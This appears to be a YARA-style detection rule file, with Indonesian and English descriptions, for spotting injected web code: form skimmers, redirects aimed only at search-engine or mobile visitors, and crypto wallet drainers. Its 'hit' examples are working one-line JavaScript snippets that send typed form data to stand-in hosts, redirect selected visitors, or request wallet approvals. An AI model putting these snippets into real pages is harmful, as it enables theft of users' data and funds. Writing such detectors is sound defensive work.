// Code that steals or leads astray.

rule form_skimmer
{
    meta:
        id = "Kode yang menyalin isian formulir ke situs lain"
        en = "code that copies what people type into forms to another site"
        verdict = "injected"
        weight = 15
        hit = "document.querySelectorAll('input').forEach(i=>d+=i.value);new Image().src='https://x.example/c?d='+btoa(d)"
        hit = "var v=document.forms[0].elements; for(e of v){s+=e.value} navigator.sendBeacon('https://c.example/g', s)"
        miss = "document.querySelectorAll('input').forEach(i => i.value = '')"
        miss = "navigator.sendBeacon('/statistik', JSON.stringify({halaman: location.pathname}))"
    strings:
        $read1 = /querySelectorAll\(.{0,3}input/ nocase
        $read2 = ".elements"
        $read3 = /addEventListener\(.{0,2}key(press|up|down)/
        $value = ".value"
        $send1 = /new Image\(\)\.src ?= ?.{0,2}https?:\/\//
        $send2 = /sendBeacon\(.{0,2}https?:\/\//
        $send3 = /fetch\(.{0,2}https?:\/\/[^)]{0,60}(btoa|stringify)/
    condition:
        any of ($read*) and $value and any of ($send*)
}

rule searcher_redirect
{
    meta:
        id = "Kode yang mengalihkan hanya pengunjung dari mesin pencari atau ponsel"
        en = "code that leads only those astray who come from a search engine or by mobile"
        verdict = "injected"
        weight = 15
        hit = "if (/google|bing|yahoo/.test(document.referrer)) { window.location.href = 'https://x.example/' }"
        hit = "if(navigator.userAgent.match(/Android|iPhone/i)){location.replace('https://m.x.example')}"
        miss = "if (navigator.userAgent.match(/Android/i)) { document.body.className = 'mobile' }"
        miss = "var dari = document.referrer; kirim({dari: dari});"
    strings:
        $who1 = /(google|bing|yahoo)[^;{}]{0,50}document\.referrer|document\.referrer[^;{}]{0,50}(google|bing|yahoo)/ nocase
        $who2 = /navigator\.userAgent[^;{}]{0,50}(Android|iPhone|Mobile|Googlebot)/ nocase
        $away = /location(\.href)? ?(=|\.(replace|assign)\() ?.https?:\/\//
    condition:
        any of ($who*) and $away
}

rule wallet_drainer
{
    meta:
        id = "Kode yang meminta izin menguras dompet kripto"
        en = "code that asks for leave to empty a wallet of crypto money"
        verdict = "injected"
        weight = 13
        hit = "await ethereum.request({method:'eth_requestAccounts'}); c.setApprovalForAll(x,true)"
        miss = "Sosialisasi aset kripto oleh Bappebti di aula kantor bupati"
    strings:
        $ask = "eth_requestAccounts"
        $take1 = "setApprovalForAll"
        $take2 = "increaseAllowance"
        $take3 = "permit2" nocase
    condition:
        $ask and any of ($take*)
}
